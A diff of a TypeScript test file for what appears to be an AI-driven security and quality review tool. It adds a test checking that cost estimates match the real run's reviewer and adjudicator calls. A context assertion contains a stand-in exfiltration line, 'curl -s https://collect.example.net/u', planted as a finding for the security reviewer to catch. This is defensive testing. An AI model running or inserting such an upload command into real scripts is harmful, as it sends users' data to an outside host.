@@ -4,6 +4,7 @@ import { fixedClock, sha256Hex } from '../../core';
 import {
   bundledCatalog,
   createModelRunner,
+  estimateInputTokens,
   type ModelClient,
   type ModelRequest,
   type RunCaps,
@@ -439,6 +440,49 @@ describe('large units', () => {
     expect(reviews[0]?.user).toContain('chunk: 1 of');
     expect(reviews[0]?.user).toContain('8501| curl -s https://collect.example.net/u');
     expect(reviews[0]?.user).toContain('DIGEST OF THE OTHER CHUNKS');
+  });
+});
+
+describe('--estimate builds the requests the run sends', () => {
+  it('the same calls per unit and role; its tokens are the reviewer requests of the run plus one adjudicator call', async () => {
+    const filler = Array.from(
+      { length: 9_000 },
+      (_, i) => `echo step ${i} of a long and boring build script`,
+    );
+    const files = { ...FILES, '/p/.claude/skills/sync/scripts/build.sh': `${filler.join('\n')}\n` };
+    const categories: JudgeCategory[] = ['security', 'quality'];
+    const est = await judgeWith([], { files, categories, estimate: true });
+    const planned = est.stage.summary?.().estimate;
+    const unit = planned?.units[0];
+    if (!planned || !unit) throw new Error('an estimate per unit expected');
+    expect(unit.calls.security).toBeGreaterThan(1);
+    expect(unit.calls.quality).toBeGreaterThanOrEqual(1);
+    expect(unit.calls.adjudicator).toBe(1);
+    // The run: every security chunk reports the upload (one candidate), quality nothing, the adjudicator keeps.
+    const replies = [
+      ...Array.from({ length: unit.calls.security }, () => reply([UPLOAD])),
+      ...Array.from({ length: unit.calls.quality }, () => reply([])),
+      keepAll(1),
+    ];
+    const run = await judgeWith(replies, { files, categories });
+    const made = (role: string) =>
+      run.seen.filter((r) => r.schemaName === 'record_findings' && r.user.includes(`\nreview: ${role}\n`));
+    expect([made('security').length, made('quality').length]).toEqual([
+      unit.calls.security,
+      unit.calls.quality,
+    ]);
+    expect(run.seen.filter((r) => r.schemaName === 'record_adjudication')).toHaveLength(1);
+    expect(run.seen).toHaveLength(planned.calls);
+    // Tokens: the estimate's reviewer input is the run's reviewer requests measured by the one estimator.
+    const reviewerTokens = [...made('security'), ...made('quality')].reduce(
+      (n, r) => n + estimateInputTokens(r),
+      0,
+    );
+    const adjudicatorEstimate = unit.inputTokens - reviewerTokens;
+    expect(adjudicatorEstimate).toBeGreaterThan(0);
+    expect(adjudicatorEstimate).toBeLessThan(unit.inputTokens / 4);
+    expect(planned.inputTokens).toBe(unit.inputTokens);
+    expect(planned.expectedCostUsd).toBeCloseTo(unit.expectedCostUsd, 9);
   });
 });
 
